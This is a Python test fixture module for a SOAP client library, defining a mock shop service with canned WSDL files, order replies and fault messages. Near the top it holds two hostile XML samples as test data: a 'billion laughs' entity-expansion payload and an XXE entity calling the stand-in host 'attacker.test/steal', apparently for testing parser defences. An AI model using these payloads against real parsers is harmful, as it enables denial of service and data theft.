"""The shop service of the SOAP tests: its WSDL files and canned replies over MockTransport."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import httpx

from apinotebook import (
    History,
    Retry,
)
from apinotebook.soap import (
    SoapClient,
)

FIXTURES = Path(__file__).parents[1] / "fixtures" / "soap"
SHOP_WSDL = "http://shop.test/wsdl/shop.wsdl"
SHOP_NS = "http://example.com/shop/v1"
ENV11 = "http://schemas.xmlsoap.org/soap/envelope/"
ENV12 = "http://www.w3.org/2003/05/soap-envelope"
WSSE = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"
FAST = Retry(backoff=0, jitter=False)
PASSWORD = "s3cret-shop-password"

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
"""
XXE = """<?xml version="1.0"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "http://attacker.test/steal"> ]>
"""


def envelope(body: str, *, version: str = "1.1") -> bytes:
    ns = ENV11 if version == "1.1" else ENV12
    return (
        f'<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="{ns}">'
        f"<soap:Body>{body}</soap:Body></soap:Envelope>"
    ).encode()


ORDER = f"""<GetOrderResponse xmlns="{SHOP_NS}" xmlns:c="http://example.com/common/v1">
<order><id>O-1</id><status>NEW</status><placed>2024-01-02</placed>
<customer><name>Ann</name><address><c:street>1 Road</c:street><c:street>Flat 2</c:street>
<c:city>Paris</c:city><c:country>FR</c:country></address></customer>
<item><sku>A</sku><quantity>2</quantity><price currency="EUR">3.50</price></item>
<item><sku>B</sku><quantity>1</quantity></item>
<total currency="EUR">7.00</total></order></GetOrderResponse>"""

SHOP_FAULT = f"""<soap:Fault><faultcode>soap:Client</faultcode>
<faultstring>No order O-9</faultstring><faultactor>urn:shop</faultactor>
<detail><s:ShopError xmlns:s="{SHOP_NS}"><s:code>ORDER_NOT_FOUND</s:code>
<s:field>orderId</s:field><s:field>id</s:field></s:ShopError></detail></soap:Fault>"""


class Shop:
    """A MockTransport serving the shop WSDL and canned replies; records every request."""

    def __init__(self, files: dict[str, bytes] | None = None) -> None:
        self.files = {p.name: p.read_bytes() for p in FIXTURES.glob("shop*")}
        self.files.update(files or {})
        self.requests: list[httpx.Request] = []
        self.replies: list[httpx.Response] = []
        self.require_auth: str | None = None

    def reply(self, status: int, body: bytes | str, ctype: str = "text/xml; charset=utf-8") -> None:
        content = body.encode() if isinstance(body, str) else body
        self.replies.append(httpx.Response(status, content=content,
                                           headers={"content-type": ctype}))  # fmt: skip

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.requests.append(request)
        if self.require_auth and request.headers.get("authorization") != self.require_auth:
            return httpx.Response(401, text="no", headers={"www-authenticate": "Basic"})
        if request.method == "GET":
            name = request.url.path.rsplit("/", 1)[-1]
            if name not in self.files:
                return httpx.Response(404, text="not found")
            return httpx.Response(200, content=self.files[name],
                                  headers={"content-type": "text/xml"})  # fmt: skip
        if not self.replies:
            return httpx.Response(
                200, content=envelope(ORDER), headers={"content-type": "text/xml"}
            )
        return self.replies.pop(0)

    @property
    def gets(self) -> list[str]:
        return [str(r.url) for r in self.requests if r.method == "GET"]

    @property
    def posts(self) -> list[httpx.Request]:
        return [r for r in self.requests if r.method == "POST"]

    def client(self, wsdl: str = SHOP_WSDL, **kwargs: Any) -> SoapClient:
        kwargs.setdefault("history", History())
        kwargs.setdefault("retry", FAST)
        return SoapClient(wsdl, transport=httpx.MockTransport(self), **kwargs)
